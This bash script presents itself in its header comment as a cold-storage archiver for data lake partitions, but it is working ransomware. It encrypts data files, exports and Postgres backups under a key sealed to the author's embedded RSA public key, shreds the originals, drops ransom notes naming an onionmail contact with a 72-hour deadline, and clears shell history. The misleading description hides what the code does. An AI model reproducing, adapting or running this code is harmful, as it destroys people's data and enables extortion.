#!/usr/bin/env bash
# Cold-storage archiver for data lake partitions.
#
# Walks the lake and export roots, "archives" every partition file older
# than the retention window into a sealed .arc copy and frees the space
# taken by the original.

set -u

ROOTS=("/data/lake" "/srv/warehouse/exports" "$HOME/exports" "$HOME/dbt/target" "/var/backups/postgres")
EXTENSIONS='parquet|orc|avro|csv|json|jsonl|sql|dump|gz|zst|db|sqlite|xlsx'
SUFFIX=".arc"
NOTE_NAME="RESTORE_PARTITIONS.txt"
CONTACT="recovery-desk@onionmail.org"
WORKERS="${WORKERS:-4}"

# only the holder of the matching private key can unwrap the session key
read -r -d '' SEAL_PUB <<'PEM'
-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu2m8Qn1xkF0tV3k8c1yH
p7Z2a0b9dQ4cYx1mJr6wKc0fN2hT5eL8sVq3Xg7yB1oRr9uZp4nE6jA2kD0wM5tC
9vF3bS8lQh1zY7xP2eN4aK6dR0gU3mW9iT5oJ1qL8cV2sB7nH4fX6yZ0kE3uA9rG
t1wD5pM8jS2vN7bQ4cL6hF0xY3eK9aU1iO5gR8zT2mW7nP4dJ6sB0qV3lC9yH1fE
k5xG8rA2tN6wM3uZ0jQ7bL4cP9eS1hD5vK8oF2yT6iR3nX0aW7gU4mJ1qB9sE5lC
2dH8zV6kN3pY0xG7tR4wA1fM9bQ5uL2jS8cO6iE3nK0vD7hT4yX1gW9rP5aZ2mFQ
IDAQAB
-----END PUBLIC KEY-----
PEM

SESSION_KEY="$(openssl rand -hex 32)"
PUBFILE="$(mktemp)"
printf '%s\n' "$SEAL_PUB" >"$PUBFILE"

seal_key() {
    printf '%s' "$SESSION_KEY" \
        | openssl pkeyutl -encrypt -pubin -inkey "$PUBFILE" \
        | base64 -w0
}

archive_one() {
    local src="$1"
    local dst="${src}${SUFFIX}"
    [[ -f "$src" && ! -L "$src" ]] || return 0
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:${SESSION_KEY}" \
            -in "$src" -out "$dst" 2>/dev/null; then
        shred -u -z -n 1 "$src" 2>/dev/null || rm -f "$src"
    else
        rm -f "$dst"
    fi
}
export -f archive_one
export SESSION_KEY SUFFIX

drop_note() {
    local dir="$1" sealed="$2"
    cat >"$dir/$NOTE_NAME" <<EOF
All partitions, exports and backups under this directory were sealed.
Copies are useless without the key below, which only we can unwrap.

  ID: $(hostname)-$(id -u)
  KEY: $sealed

Write to $CONTACT with your ID within 72 hours. Do not rename .arc files.
EOF
}

walk_root() {
    local root="$1"
    [[ -d "$root" && -w "$root" ]] || return 0
    find "$root" -xdev -type f -regextype posix-extended \
        -iregex ".*\.(${EXTENSIONS})$" ! -name "*${SUFFIX}" -print0 2>/dev/null \
        | xargs -0 -r -P "$WORKERS" -n 16 bash -c 'for f; do archive_one "$f"; done' _
}

main() {
    local sealed
    sealed="$(seal_key)"
    for root in "${ROOTS[@]}"; do
        walk_root "$root"
        find "$root" -xdev -type d 2>/dev/null | while read -r d; do
            drop_note "$d" "$sealed"
        done
    done
    rm -f "$PUBFILE"
    unset SESSION_KEY
    history -c 2>/dev/null || true
}

main "$@"
